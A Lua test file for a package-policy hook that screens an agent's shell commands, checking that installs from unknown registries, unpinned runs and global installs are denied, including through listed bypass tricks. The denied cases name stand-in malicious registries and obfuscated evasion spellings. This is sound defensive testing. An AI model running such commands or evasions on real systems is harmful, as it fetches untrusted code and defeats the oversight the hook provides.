-- Tests for packages.lua: unknown registries, unpinned package runs and
-- global installs are denied however they are spelled; everyday installs
-- pass, and npm is rewritten to pnpm.

local function sh(command)
  return fire("PreToolUse", { toolName = "Bash", toolCapabilities = { "shell" }, toolInput = { command = command },
    cwd = "/home/dev/app", sessionId = "t" })
end

local denied = {
  { "npm install --registry https://npm.evil.example left-pad", "npm.evil.example" },
  { "pnpm add lodash --registry=http://10.0.0.5:4873", "10.0.0.5" },
  { "yarn add react --registry https://r.example.com", "r.example.com" },
  { "npm config set registry https://npm.evil.example", "setting the registry npm.evil.example" },
  { "pip install -i https://pypi.evil.example/simple requests", "pypi.evil.example" },
  { "pip install --extra-index-url https://x.example/simple torch", "x.example" },
  { "uv pip install --index-url https://mirror.example/simple flask", "mirror.example" },
  { "pip install --trusted-host pypi.example requests", "trusted-host" },
  { "npm install git+https://github.com/someone/pkg.git", "from outside the registry" },
  { "npm i someone/left-pad", "GitHub shorthand" },
  { "pip install git+https://github.com/someone/pkg", "from outside the index" },
  { "npx create-react-app web", "unpinned package create-react-app" },
  { "npx -y cowsay hi", "unpinned package cowsay" },
  { "pnpm dlx degit user/repo app", "unpinned package degit" },
  { "yarn dlx @scope/tool", "unpinned package @scope/tool" },
  { "bunx prettier --write .", "unpinned package prettier" },
  { "pipx run black .", "unpinned package black" },
  { "uvx ruff check .", "unpinned package ruff" },
  { "uv tool run --from httpie http example.com", "unpinned package httpie" },
  { "npm install -g typescript", "global install" },
  { "pnpm add --global vercel", "global install" },
  { "yarn global add serve", "global install" },
  { "pip install --user requests", "user-wide install" },
  { "pip install --break-system-packages requests", "system Python" },
  { "sudo apt-get install -y jq", "system-wide install (apt-get install)" },
  { "brew install jq", "system-wide install" },
  -- bypass attempts
  { "n''px create-react-app web", "unpinned package create-react-app" },
  { "env -i PATH=/usr/bin npx cowsay", "unpinned package cowsay" },
  { "sudo pip install requests", "under sudo" },
  { "sudo -H python3 -m pip install requests", "under sudo" },
  { "npm i -g --prefix ~/.local typescript", "global install" },
  { "npm install --location=global typescript", "global install" },
  { "npm --registry=https://npm.evil.example install x", "npm.evil.example" },
  { "npm install --@acme:registry=https://npm.evil.example @acme/ui", "npm.evil.example" },
  { "NPM_CONFIG_REGISTRY=https://npm.evil.example npm ci", "npm.evil.example" },
  { "env 'PIP_INDEX_URL=https://pypi.evil.example/simple' pip install x", "pypi.evil.example" },
  { "cd web && npx eslint@latest .", "unpinned package eslint@latest" },
  { "npx --package=@angular/cli@^17 ng new app", "unpinned package @angular/cli@^17" },
  { "sh -c 'npx cowsay hi'", "unpinned package cowsay" },
  { "echo $(npx cowsay hi)", "unpinned package cowsay" },
  { "npx \"$PKG\"", "only known when the command runs" },
  { "python -m pip install -ihttps://pypi.evil.example/simple x", "pypi.evil.example" },
  { "xargs -n1 npm install -g < tools.txt", "global install" },
  { "timeout 60 uvx ruff@latest check", "unpinned package ruff@latest" },
  { "bash -c \"npm install -g typescript\"", "global install" },
  { "npm install -\\g typescript", "global install" },
  { "nice npx -y cowsay", "unpinned package cowsay" },
  { "eval 'pip install --index-url https://pypi.evil.example/simple x'", "pypi.evil.example" },
  { "npm install typescript --global", "global install" },
  { "P=npx; $P cowsay hi", "unpinned package cowsay" },
  { "pip3 install -i https://pypi.evil.example/simple requests", "pypi.evil.example" },
  { "npm i -g typescript; echo done", "global install" },
  { "true && pipx run black .", "unpinned package black" },
  { "command npx cowsay", "unpinned package cowsay" },
  { "uvx 'ruff' check .", "unpinned package ruff" },
}

for _, c in ipairs(denied) do
  test("denies " .. c[1], function()
    expect.denied(sh(c[1]), c[2])
  end)
end

local allowed = {
  "pnpm install",
  "pnpm add lodash",
  "yarn add react@18.3.1",
  "pnpm add -D vitest",
  "npx --no-install eslint .",
  "pnpm dlx create-vite@5.2.3 web",
  "uvx ruff@0.6.9 check .",
  "uvx --from ruff==0.6.9 ruff check",
  "pipx run black==24.8.0 .",
  "pip install -r requirements.txt",
  "pip install -e .",
  "pip install requests==2.32.3",
  "pip install -i https://pypi.org/simple requests",
  "python -m pip install ./dist/app-1.0-py3-none-any.whl",
  "uv pip install -r requirements.txt",
  "uv add httpx",
  "pnpm add ./packages/ui",
  "pnpm run build && pnpm test",
  "apt-cache search jq",
  "brew list",
  "pip list --user",
  "pnpm config get registry",
}

for _, cmd in ipairs(allowed) do
  test("allows " .. cmd, function()
    local r = sh(cmd)
    expect.no_objection(r)
    expect.eq(r.input, nil, "rewritten input")
  end)
end

test("allows a pinned npx, rewritten to pnpm dlx", function()
  expect.mutated(sh("npx eslint@9.1.0 ."), { command = "pnpm dlx eslint@9.1.0 ." })
  expect.mutated(sh("npx --package=@angular/cli@17.3.8 ng new app"),
    { command = "pnpm dlx --package=@angular/cli@17.3.8 ng new app" })
end)

test("rewrites npm install into pnpm install", function()
  expect.mutated(sh("npm install"), { command = "pnpm install" })
end)

test("rewrites npm install x into pnpm add x", function()
  expect.mutated(sh("npm install lodash"), { command = "pnpm add lodash" })
end)

test("rewrites npm ci into a frozen pnpm install", function()
  expect.mutated(sh("npm ci"), { command = "pnpm install --frozen-lockfile" })
end)

test("rewrites npx x@version into pnpm dlx x@version", function()
  expect.mutated(sh("npx cowsay@1.6.0 hi"), { command = "pnpm dlx cowsay@1.6.0 hi" })
end)

test("a rewritten global install is still denied", function()
  expect.denied(sh("npm install -g typescript"), "global install (pnpm add -g)")
end)

test("a rewritten unpinned npx is still denied", function()
  expect.denied(sh("npx cowsay"), "unpinned package cowsay")
end)
